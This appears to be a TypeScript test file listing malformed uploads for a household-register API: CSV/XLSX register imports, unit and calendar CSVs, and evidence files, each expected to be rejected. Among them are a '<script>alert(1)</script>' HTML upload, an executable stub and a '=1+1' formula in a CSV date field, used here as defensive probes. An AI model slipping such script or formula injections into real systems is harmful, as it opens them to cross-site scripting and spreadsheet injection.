    (c: FileContext) => [REGISTER_HEADERS.filter((h) => h !== '身份证号'), registerRow(c, '').slice(0, 5)],
    /身份证号/,
  ],
] as [string, (c: FileContext) => string[][], RegExp][])
  add({
    category: 'file: register import',
    title: `register .csv: ${title}`,
    method: 'post',
    path: REGISTER,
    as: 'admin',
    multipart: { file: { name: 'register.csv', bytes: (c) => csv(rows(c)) } },
    status: 400,
    names,
    tables: ['register_imports', 'persons', 'households', 'audit'],
  });
add({
  category: 'file: register import',
  title: 'register: no file at all',
  method: 'post',
  path: REGISTER,
  as: 'admin',
  multipart: {},
  status: 400,
  names: 'file is required',
  tables: ['register_imports'],
});

add({
  category: 'file: register import',
  title: 'register .xlsx: a formula without its value in the first data row',
  method: 'post',
  path: REGISTER,
  as: 'admin',
  multipart: {
    file: {
      name: 'register.xlsx',
      bytes: (c) => xlsx([REGISTER_HEADERS, registerRow(c, c.taskIdNumbers[0]).map((v, i) => (i === 3 ? { formula: 'A1&B1' } : v))]),
    },
  },
  status: 400,
  names: 'cell D2 (row 2): is a formula without a saved value',
  tables: ['register_imports', 'persons', 'households', 'audit'],
});

// The unit import as CSV (the body is the file).
const UNIT_HEADER = 'code,name,kind,parentCode';
for (const [title, body, names] of [
  ['an empty body', '', /empty|no rows|code/],
  ['a header only', `${UNIT_HEADER}\n`, /no rows|empty|units/],
  ['a header lacking kind', 'code,name,parentCode\nBAD-U1,坏村,{townshipCode}\n', /kind/],
  ['an unknown kind', `${UNIT_HEADER}\nBAD-U1,坏村,castle,{townshipCode}\n`, /"row":1.*kind|kind.*castle/],
  ['an unknown parent code', `${UNIT_HEADER}\nBAD-U1,坏村,village,NO-SUCH-PARENT\n`, /parentCode/],
  ['a code with a slash', `${UNIT_HEADER}\nBAD/U1,坏村,village,{townshipCode}\n`, /"column":"code"/],
  ['a code used twice', `${UNIT_HEADER}\nBAD-U1,坏村,village,{townshipCode}\nBAD-U1,坏村二,village,{townshipCode}\n`, /"row":2.*code/],
  ['a name over 100 characters', `${UNIT_HEADER}\nBAD-U1,${'村'.repeat(101)},village,{townshipCode}\n`, /"column":"name"/],
  ['an empty name', `${UNIT_HEADER}\nBAD-U1,,village,{townshipCode}\n`, /"column":"name"/],
  ['isPoorVillage of maybe', `code,name,kind,parentCode,isPoorVillage\nBAD-U1,坏村,village,{townshipCode},maybe\n`, /isPoorVillage/],
  ['a village under a village', `${UNIT_HEADER}\nBAD-U1,坏村,village,{villageCode}\n`, /"column":"parentCode"|cannot stand under/],
  ['an unknown head username', `code,name,kind,parentCode,headUsername\nBAD-U1,坏村,village,{townshipCode},nobody-here\n`, /headUsername/],
  ['an unterminated quote', `${UNIT_HEADER}\nBAD-U1,"坏村,village,{townshipCode}\n`, /quote|row|line/i],
] as [string, string, RegExp][])
  add({
    category: 'file: unit import',
    title: `units CSV: ${title}`,
    method: 'post',
    path: '/api/units/import/csv',
    as: 'admin',
    raw: { type: 'text/csv', body },
    status: 400,
    names,
    tables: ['units', 'audit'],
  });
for (const [title, body, names] of [
  ['UTF-16', utf16le(`${UNIT_HEADER}\nBAD-U1,坏村,village,X\n`), /UTF-16/],
  ['a PNG', PNG, /PNG image/],
  ['a broken byte on line 2', brokenAtRow([[UNIT_HEADER], ['BAD-U1,坏村,village,X']], 2), /line 2/],
  ['GBK without saying so', Buffer.from([0x63, 0x6f, 0x64, 0x65, 0x0a, 0xbb, 0xb5, 0xb4, 0xe5, 0x0a]), /line 2/],
] as [string, Buffer, RegExp][])
  add({
    category: 'file: unit import',
    title: `units CSV: ${title}`,
    method: 'post',
    path: '/api/units/import/csv',
    as: 'admin',
    raw: { type: 'text/csv', body },
    status: 400,
    names,
    tables: ['units', 'audit'],
  });
for (const [title, json, names] of [
  ['no units', { units: [] }, /units/],
  ['units not a list', { units: 'all' }, /units/],
  ['a row that is a number', { units: [42] }, /units|row/],
  ['a numeric code', { units: [{ code: 510812, name: '村', kind: 'village', parentCode: '{townshipCode}' }] }, /"column":"code"/],
  ['an unknown column', { units: [{ code: 'BAD-U1', name: '村', kind: 'village', parentCode: '{townshipCode}', path: '/x/' }] }, /path/],
] as [string, unknown, RegExp][])
  add({
    category: 'file: unit import',
    title: `units JSON: ${title}`,
    method: 'post',
    path: '/api/units/import',
    as: 'admin',
    json,
    status: 400,
    names,
    tables: ['units', 'audit'],
  });

// The national calendar as CSV (the body is the file).
for (const [title, body, names] of [
  ['an empty body', '', /empty|date|holiday/i],
  ['a date that does not exist', 'date,type\n2097-02-30,holiday\n', /2097-02-30/],
  ['a date of another year', 'date,type\n2096-10-01,holiday\n', /2096-10-01|2097/],
  ['an unknown type', 'date,type\n2097-10-01,party\n', /party|type/],
  ['a date in words', 'date,type\nNew Year,holiday\n', /New Year|date/],
  ['a formula as the date', 'date,type\n=1+1,holiday\n', /=1\+1|date/],
  ['only a header', 'date,type\n', /no|empty|holiday/i],
] as [string, string, RegExp][])
  add({
    category: 'file: calendar upload',
    title: `calendar CSV: ${title}`,
    method: 'put',
    path: '/api/calendars/2097',
    as: 'admin',
    raw: { type: 'text/csv', body },
    status: 400,
    names,
    tables: ['calendars', 'audit'],
  });
for (const [title, body, names] of [
  ['UTF-16', utf16le('date,type\n2097-10-01,holiday\n'), /UTF-16/],
  ['a PNG', PNG, /PNG image/],
  ['a broken byte on line 3', brokenAtRow([['date,type'], ['2097-10-01,holiday'], ['2097-10-02,holiday']], 3), /line 3/],
] as [string, Buffer, RegExp][])
  add({
    category: 'file: calendar upload',
    title: `calendar CSV: ${title}`,
    method: 'put',
    path: '/api/calendars/2097',
    as: 'admin',
    raw: { type: 'text/csv', body },
    status: 400,
    names,
    tables: ['calendars', 'audit'],
  });

// Evidence files.
for (const [title, upload, status, names] of [
  ['no file', undefined, 400, 'file is required'],
  [
    'an HTML page',
    { name: 'page.html', contentType: 'text/html', bytes: () => Buffer.from('<script>alert(1)</script>') },
    400,
    /text\/html/,
  ],
  [
    'an executable',
    { name: 'setup.exe', contentType: 'application/x-msdownload', bytes: () => Buffer.from('MZ\x90\x00') },
    400,
    /application\/x-msdownload/,
  ],
  ['a PNG declared as a PDF', { name: 'scan.pdf', contentType: 'application/pdf', bytes: () => PNG }, 400, /PDF|pdf/],
  [
    'a PNG declared as CSV',
    { name: 'data.csv', contentType: 'text/csv', bytes: () => PNG },
    400,
    'declared text/csv but its content is a PNG image',
  ],
  [
    'a NUL byte in a CSV',
    { name: 'data.csv', contentType: 'text/csv', bytes: () => Buffer.from('a,b\n1,\u0000\n') },
    400,
    'declared text/csv but its content is binary',
  ],
  [
    'a file over EVIDENCE_MAX_BYTES',
    { name: 'big.pdf', contentType: 'application/pdf', bytes: () => Buffer.concat([PDF, Buffer.alloc(80 * 1024, 0x20)]) },
    413,
    'file is larger than the limit of 64 KiB (65536 bytes), EVIDENCE_MAX_BYTES',
  ],
  ['a file name of 300 characters', { name: `${'证'.repeat(296)}.pdf`, contentType: 'application/pdf', bytes: () => PDF }, 400, /255/],
  [
    'the file in another field',
    { field: 'attachment', name: 'a.pdf', contentType: 'application/pdf', bytes: () => PDF },
    400,
    /field.*"file"|attachment/,
  ],
] as [string, Upload | undefined, number, string | RegExp][])
  add({
    category: 'file: evidence upload',
    title: `evidence: ${title}`,
    method: 'post',
    path: '/api/tasks/{task}/evidence/files',
    as: 'staff',
    multipart: { file: upload },
    status,
    names,
    tables: ['evidence'],
  });

export const BAD_INPUT_CORPUS: readonly BadInputCase[] = cases;

/**
 * Register files whose header and first data row read well, so the upload is taken (202) and the
 * worker refuses them whole: the import fails, its report (errors.csv) names the row and the problem,
 * and the register is as it was. A county's file of 200 MiB is checked row by row in the background,
 * not while the upload waits; these are the rows it checks.
 */
export interface RegisterWorkerCase {
  title: string;
  as: 'admin' | 'manager';
  file: Upload;
  /** A line of the report: `<row>,<column>,<reason>`. */
  report: RegExp;
}

const fresh = (n: number) => idWithBirthDate(`19${60 + n}0${1 + (n % 9)}1${n % 10}`, 100 + n);
const registerCsv = (rows: (c: FileContext) => string[][]): Upload => ({
  name: 'register.csv',
  bytes: (c) => csv([REGISTER_HEADERS, ...rows(c)]),
});
const withCell = (row: string[], header: string, value: string) => row.map((v, i) => (REGISTER_HEADERS[i] === header ? value : v));

export const REGISTER_WORKER_CASES: readonly RegisterWorkerCase[] = [
  {
    title: 'an ID with a wrong check digit',
    as: 'admin',
    file: registerCsv((c) => [registerRow(c, wrongCheck(fresh(1)))]),
    report: /^2,身份证号,身份证号校验位错误/m,
  },
  {
    title: 'an ID with an impossible birth date (1999-02-30)',
    as: 'admin',
    file: registerCsv((c) => [registerRow(c, idWithBirthDate('19990230'))]),
    report: /^2,身份证号,身份证号中的出生日期（第7至14位）无效/m,
  },
  {
    title: 'an ID born in the future',
    as: 'admin',
    file: registerCsv((c) => [registerRow(c, idWithBirthDate(futureBirth()))]),
    report: /^2,身份证号,身份证号中的出生日期/m,
  },
  {
    title: 'an ID born before 1900',
    as: 'admin',
    file: registerCsv((c) => [registerRow(c, idWithBirthDate('18991231'))]),
    report: /^2,身份证号,身份证号中的出生日期/m,
  },
  {
    title: 'a birth date that contradicts the ID',
    as: 'admin',
    file: registerCsv((c) => [withCell(registerRow(c, fresh(2)), '出生日期', '1950-01-01')]),
    report: /^2,出生日期,与身份证号中的出生日期不符/m,
  },
  {
    title: 'a birth date that does not exist',
    as: 'admin',
    file: registerCsv((c) => [withCell(registerRow(c, fresh(3)), '出生日期', '2001-02-29')]),
    report: /^2,出生日期,/m,
  },
  {
    title: 'a sex that contradicts the ID',
    as: 'admin',
    file: registerCsv((c) => [withCell(registerRow(c, fresh(4)), '性别', Number(fresh(4)[16]) % 2 === 1 ? '女' : '男')]),
    report: /^2,性别,与身份证号不符/m,
  },
  {
    title: 'a poverty status that is neither',
    as: 'admin',
    file: registerCsv((c) => [withCell(registerRow(c, fresh(5)), '脱贫状态', '小康')]),
    report: /^2,脱贫状态,应为/m,
  },
  {
    title: 'a name over 50 characters',
    as: 'admin',
    file: registerCsv((c) => [withCell(registerRow(c, fresh(6)), '姓名', '名'.repeat(51))]),
    report: /^2,姓名,不能超过50个字符/m,
  },
  {
    title: 'an empty name',
    as: 'admin',
    file: registerCsv((c) => [withCell(registerRow(c, fresh(7)), '姓名', '')]),
    report: /^2,姓名,不能为空/m,
  },
  {
    title: 'a village code that does not exist',
    as: 'admin',
    file: registerCsv((c) => [withCell(registerRow(c, fresh(8)), '村代码', 'NO-SUCH-VILLAGE')]),
    report: /^2,村代码,/m,
  },
  {
    title: "a village outside the importer's scope",
    as: 'manager',
    file: registerCsv((c) => [withCell(registerRow(c, fresh(9)), '村代码', c.otherVillageCode)]),
    report: /^2,村代码,/m,
  },
  {
    title: 'the same ID twice',
    as: 'admin',
    file: registerCsv((c) => [registerRow(c, fresh(10)), withCell(registerRow(c, fresh(10)), '姓名', '李四')]),
    report: /^3,身份证号,与第2行的身份证号重复/m,
  },
  {
    title: 'a household with two heads',
    as: 'admin',
    file: registerCsv((c) => [registerRow(c, fresh(11)), withCell(registerRow(c, fresh(12)), '户主姓名', '王五')]),
    report: /^3,户主姓名,同一户编号在第2行的户主姓名为/m,
  },
  {
    title: 'an ID registered in another household',
    as: 'admin',
    file: registerCsv((c) => [registerRow(c, c.taskIdNumbers[0])]),
    report: /^2,身份证号,该身份证号已登记在户/m,
  },
  {
    title: 'a broken UTF-8 byte in row 3',
    as: 'admin',
    file: {
      name: 'register.csv',
      bytes: (c) => brokenAtRow([REGISTER_HEADERS, registerRow(c, fresh(13)), withCell(registerRow(c, fresh(14)), '姓名', '李四')], 3),
    },
    report: /^3,,.*a byte that is not valid UTF-8/m,
  },
  {
    title: 'a file ending in half a UTF-8 character',
    as: 'admin',
    file: {
      name: 'register.csv',
      bytes: (c) =>
        Buffer.concat([
          csv([REGISTER_HEADERS, registerRow(c, fresh(19)), withCell(registerRow(c, fresh(20)), '姓名', '李四')]),
          Buffer.from('说').subarray(0, 2),
        ]),
    },
    report: /^4,,.*the file ends in the middle of a UTF-8 character/m,
  },
  {
    title: 'an .xlsx formula without its value in row 3',
    as: 'admin',
    file: {
      name: 'register.xlsx',
      bytes: (c) =>
        xlsx([
          REGISTER_HEADERS,
          registerRow(c, fresh(15)),
          withCell(registerRow(c, fresh(16)), '姓名', '').map((v, i) => (i === 3 ? { formula: 'D2' } : v)),
        ]),
    },
    report: /^3,,.*cell D3 \(row 3\): is a formula without a saved value/m,
  },
  {
    title: 'an .xlsx error cell in row 3',
    as: 'admin',
    file: {
      name: 'register.xlsx',
      bytes: (c) =>
        errorCellWorkbookRows(REGISTER_HEADERS, [registerRow(c, fresh(17)), withCell(registerRow(c, fresh(18)), '姓名', '#DIV/0!')], 3, 4),
    },
    report: /^3,,.*cell D3 \(row 3\): holds the error #DIV\/0!/m,
  },
];
